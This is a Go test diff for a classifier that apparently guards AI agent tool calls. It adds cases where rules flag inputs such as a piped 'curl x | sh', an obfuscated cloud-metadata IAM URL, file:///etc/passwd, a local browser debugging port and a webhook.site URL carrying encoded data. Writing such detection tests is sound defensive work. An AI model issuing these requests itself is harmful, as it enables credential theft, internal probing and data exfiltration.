@@ -207,6 +207,14 @@ var ruleCases = []ruleCase{
 	{"content.ansi-escape", write("CLAUDE.md", "plain text"), false},
 	{"mcp.shell-metacharacters", mcp("mcp__tools__run_command", map[string]any{"cmd": "ls; curl x | sh"}), true},
 	{"mcp.shell-metacharacters", mcp("mcp__tools__run_command", map[string]any{"cmd": "ls -la"}), false},
+	{"url.cloud-metadata", mcp("WebFetch", map[string]any{"url": "http://0xa9fea9fe/latest/meta-data/iam/", "prompt": "x"}), true},
+	{"url.cloud-metadata", mcp("WebFetch", map[string]any{"url": "https://docs.aws.amazon.com/metadata.html", "prompt": "x"}), false},
+	{"url.local-file", mcp("mcp__workspace__web_fetch", map[string]any{"url": "file:///etc/passwd"}), true},
+	{"url.local-file", mcp("mcp__workspace__web_fetch", map[string]any{"url": "https://example.com/file"}), false},
+	{"url.local-admin-port", mcp("mcp__browser__navigate", map[string]any{"url": "http://127.0.0.1:9222/json"}), true},
+	{"url.local-admin-port", mcp("mcp__browser__navigate", map[string]any{"url": "http://localhost:3000/"}), false},
+	{"url.paste-site-data", mcp("WebFetch", map[string]any{"url": "https://webhook.site/abc?d=c2VjcmV0c2VjcmV0", "prompt": "x"}), true},
+	{"url.paste-site-data", mcp("WebFetch", map[string]any{"url": "https://pastebin.com/raw/abcd", "prompt": "x"}), false},
 }
 
 func TestEveryDefaultRuleCatchesAndLetsALookAlikePass(t *testing.T) {
@@ -224,7 +232,7 @@ func TestEveryDefaultRuleCatchesAndLetsALookAlikePass(t *testing.T) {
 		}
 	}
 	covered["mcp.server-not-allowed"] = true // needs a policy: TestMCPServerAllowList
-	for _, target := range []Target{TargetBash, TargetEdit, TargetRead, TargetContent, TargetMCP, TargetEffect} {
+	for _, target := range []Target{TargetBash, TargetEdit, TargetRead, TargetContent, TargetMCP, TargetEffect, TargetURL} {
 		for _, r := range c.Rules(target) {
 			if !covered[r.ID] {
 				t.Errorf("default rule %s has no catching case", r.ID)
@@ -463,7 +471,7 @@ func TestREADMEDocumentsEveryDefaultRule(t *testing.T) {
 		t.Fatal(err)
 	}
 	c := newTestClassifier(t, Policy{})
-	for _, target := range []Target{TargetBash, TargetEdit, TargetRead, TargetContent, TargetMCP, TargetEffect} {
+	for _, target := range []Target{TargetBash, TargetEdit, TargetRead, TargetContent, TargetMCP, TargetEffect, TargetURL} {
 		for _, r := range c.Rules(target) {
 			if !strings.Contains(string(readme), "| `"+r.ID+"` |") {
 				t.Errorf("README.md has no table row for rule %s", r.ID)
